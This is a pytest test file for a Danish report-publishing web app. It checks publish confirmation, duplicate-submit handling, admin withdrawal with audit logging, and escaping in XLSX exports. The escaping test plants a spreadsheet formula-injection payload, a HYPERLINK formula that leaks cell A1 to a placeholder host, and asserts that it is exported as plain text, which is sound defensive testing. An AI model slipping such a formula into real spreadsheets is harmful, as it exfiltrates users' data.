"""Publishing through the real pages: a confirmation first, one publication per snapshot and catalogue however
often it is submitted, withdrawal by an admin, and text that stays text in the published XLSX."""

from __future__ import annotations

import io
import re
import threading
from html import unescape
from pathlib import Path

import openpyxl
import pytest

from maaltal.web import audit
from tests.test_web_actions import wait_for_job
from tests.web_server import demo_store, serve

CATALOGUE = Path(__file__).parents[1] / "examples" / "demo-hvidovre-2024.yaml"
FORMULA = '=HYPERLINK("http://x?leak="&A1,"Klik her")'


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    catalogue = tmp_path_factory.mktemp("catalogue") / "katalog.yaml"
    text = CATALOGUE.read_text(encoding="utf-8")
    assert "    title: Bruttoledighed\n" in text
    catalogue.write_text(text.replace("    title: Bruttoledighed\n", f"    title: '{FORMULA}'\n"), encoding="utf-8")
    with serve(demo_store(tmp_path_factory, "publish"), catalogue=catalogue, period=None) as live:
        yield live


def confirmed(server, client) -> dict[str, str]:
    """The form the confirmation page posts: it names the snapshot the analyst saw."""
    page = client.post("/publicer", data={"csrf_token": server.csrf(client)})
    assert page.status_code == 200 and "Offentliggør rapporten?" in page.text
    snapshot = re.search(r'name="oejebliksbillede" value="(\d+)"', page.text).group(1)
    return {"csrf_token": server.csrf(client), "bekraeft": "ja", "oejebliksbillede": snapshot}


def test_a_double_submit_gives_one_publication(server):
    client = server.login("analytiker")
    form = confirmed(server, client)
    responses: list = [None, None]

    def submit(i: int) -> None:
        responses[i] = client.post("/publicer", data=form)

    threads = [threading.Thread(target=submit, args=(i,)) for i in range(2)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    pages = [wait_for_job(client, r) for r in responses]
    assert sum("Rapport 1 er offentliggjort" in p for p in pages) == 1
    assert sum("allerede offentliggjort som rapport 1" in p for p in pages) == 1
    with server.site.db.cursor() as cur:
        assert cur.execute("SELECT count(*) FROM web_publications").fetchone()[0] == 1
    again = client.post("/publicer", data={"csrf_token": server.csrf(client)})
    assert "allerede offentliggjort som" in unescape(again.text) and "Ja, offentliggør" not in again.text


def test_a_formula_like_goal_title_is_plain_text_in_the_xlsx(server):
    content = server.login("laeser").get("/rapporter/1/xlsx").content
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert [c for c in cells if c.data_type == "f"] == []
    titles = [c for c in cells if c.value == FORMULA]
    assert titles and all(c.data_type == "s" for c in titles)


def test_an_admin_withdraws_a_publication_and_readers_no_longer_see_it(server):
    reader = server.login("laeser")
    assert '<th scope="row">1</th>' in reader.get("/rapporter").text
    assert 'action="/admin/rapporter/1/tilbagetraek"' not in reader.get("/rapporter").text
    admin = server.login("admin")
    token = server.csrf(admin, "/rapporter")
    assert admin.post("/admin/rapporter/1/tilbagetraek", data={"csrf_token": token}).status_code == 303
    assert '<th scope="row">1</th>' not in reader.get("/rapporter").text
    refused = reader.get("/rapporter/1/pdf")
    assert refused.status_code == 400 and "findes ikke" in unescape(refused.text)
    listing = unescape(admin.get("/rapporter").text)
    assert '<th scope="row">1</th>' in listing and "trukket tilbage" in listing
    assert admin.get("/rapporter/1/pdf").status_code == 200
    log = unescape(admin.get("/admin/log?handling=withdraw").text)
    assert re.search(r"<td>admin</td><td>Rapport trukket tilbage</td><td>rapport 1</td>.*<td>127.0.0.1</td>", log)
    twice = admin.post("/admin/rapporter/1/tilbagetraek", data={"csrf_token": token})
    assert twice.status_code == 400 and "allerede trukket tilbage" in unescape(twice.text)
    with server.site.db.cursor() as cur:
        assert audit.verify(cur).ok
